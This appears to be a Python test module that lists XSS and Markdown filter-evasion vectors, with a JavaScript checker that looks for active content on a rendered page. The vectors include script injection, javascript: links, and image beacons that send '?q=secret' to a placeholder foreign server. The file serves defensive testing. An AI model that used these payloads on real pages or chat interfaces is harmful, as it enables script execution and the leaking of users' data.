"""Texts that would run a script, or load or send something, if they were not shown as text.

They follow the public lists: OWASP's cheat sheet on filter evasion, the exfiltration of chat
contents by Markdown images and links, and the markup that the page itself understands (formulas,
directives of Streamlit, citations). THERE is the address of a foreign server.
"""

MARKUP = (
    "<script>alert(1)</script>",
    "<script src=THERE/script.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=THERE/image.png>",
    '<img src="THERE/set.png" srcset="THERE/set2.png 2x">',
    "<img src=`x`onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><use href="THERE/use.svg#x"/><image href="THERE/svg.png"/></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=THERE/frame></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=THERE/object></object><embed src=THERE/embed>",
    "<link rel=stylesheet href=THERE/link.css><link rel=prefetch href=THERE/prefetch>",
    "<style>@import 'THERE/import.css'; body{background:url(THERE/style.png)}</style>",
    "<p style='background:url(THERE/background.png)'>styled</p>",
    "<meta http-equiv=refresh content='0;url=THERE/refresh'>",
    "<base href=THERE/base/>",
    "<form action=THERE/form><input autofocus onfocus=alert(1)><button>send</button></form>",
    "<video poster=THERE/poster.png><source src=THERE/video.mp4 onerror=alert(1)></video>",
    "<audio src=THERE/audio.mp3 autoplay>",
    "<details open ontoggle=alert(1)>toggled</details>",
    "<body onload=alert(1) background=THERE/body.png>",
    "<a href=javascript:alert(1)>script</a>",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="THERE/ping" ping="THERE/pinged">ping</a>',
    "--><script>alert(1)</script><!--",
    '"><img src=x onerror=alert(1)>',
    "</title></textarea></style><script>alert(1)</script>",
    "<marquee onstart=alert(1)>",
    "<div id=voice data-say=x data-page-language=xx data-jump=y class=passage>clobbered</div>",
)
MARKDOWN = (
    "![beacon](THERE/beacon.png?q=secret)",
    "![reference][r]\n\n[r]: THERE/reference.png",
    "[![nested](THERE/nested.png)](THERE/link)",
    "[script](javascript:alert(1))",
    "[spaces](  java&#115;cript:alert(1) )",
    "[page](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[1](THERE/citation?q=secret) and [\\[1\\]](THERE/number)",
    "<THERE/angle?q=secret> THERE/bare?q=secret www.example.com/?q=secret",
    "<javascript:alert(1)>",
    "$\\href{javascript:alert(1)}{formula}$ $\\includegraphics{THERE/formula.png}$",
    "$$\\htmlStyle{background:url(THERE/html.png)}{x} \\url{THERE/url}$$",
    '```mermaid\ngraph TD; A[<svg onload=alert(1)>]; click A href "javascript:alert(1)"\n```',
    ":red[![directive](THERE/directive.png)] :blue-background[<img src=x onerror=alert(1)>]",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| ![c](THERE/c.png) | [x](vbscript:1) |",
    "note[^1]\n\n[^1]: ![footnote](THERE/footnote.png)",
    "~~~\n```\n~~~\n<script>alert(1)</script> ![fence](THERE/fence.png)\n```",
    "`code` <img src=x onerror=alert(1)> `![code](THERE/code.png)`",
    "\u202egnp.txt\u2066<script>alert(1)</script>\u2069 \u200b<img\u0000 src=THERE/null.png>",
)
VECTORS = MARKUP + MARKDOWN
assert len(VECTORS) >= 40


def aimed(text: str, address: str) -> str:
    """Return a text with the address of the foreign server in it."""
    return text.replace("THERE", address)


# On the page, with what it is asked: what is active there that a text could have made.
ACTIVE = """own => {
    const found = [];
    const loads = /^(href|src|srcset|data|action|formaction|poster|background|ping|xlink:href)$/;
    for (const e of document.querySelectorAll('#root *, [role=dialog] *')) {
        for (const {name, value} of e.attributes) {
            const at = value.trim().toLowerCase();
            if (/^on/.test(name)) found.push(`${e.tagName} ${name}`);
            if (loads.test(name)
                && e.tagName !== 'A' && /^(https?:)?[/][/]/.test(at) && !at.startsWith(own))
                found.push(`${e.tagName} ${name}=${value}`);
            if (/^(javascript|vbscript|data:text)/.test(at.replace(/[\\s\\0]/g, '')))
                found.push(`${e.tagName} ${name}=${value}`);
        }
        if (/^(IFRAME|OBJECT|EMBED|BASE|META|FRAME|AUDIO|VIDEO|MARQUEE)$/.test(e.tagName))
            found.push(e.tagName);
        if (e.tagName === 'FORM' && e.getAttribute('action')) found.push('FORM');
        if (e.tagName === 'SCRIPT' && !e.src.startsWith(own)) found.push(`SCRIPT ${e.outerHTML}`);
        // What a click does is visible: a link outwards shows its host.
        if (e.tagName === 'A' && /^https?:/.test(e.href) && !e.href.startsWith(own)) {
            // As it is written, since a browser completes an address like http://127.0.
            const host = e.getAttribute('href').match(/^https?:[/][/]([^/?#]*)/i)?.[1] ?? e.href;
            // Inside a closed box it has no innerText yet.
            const shown = (e.innerText || e.textContent).toLowerCase();
            if (!shown.includes(decodeURIComponent(host).toLowerCase()))
                found.push(`A ${e.href} "${shown}" in ${e.parentElement.outerHTML.slice(0, 99)}`);
        }
    }
    return found;
}"""
# Before any script of the page: what the policy of the page had to stop.
WATCH = """
    window.refused = [];
    document.addEventListener('securitypolicyviolation', e => window.refused.push(
        `${e.violatedDirective} ${e.blockedURI} ${e.sample}`));
"""
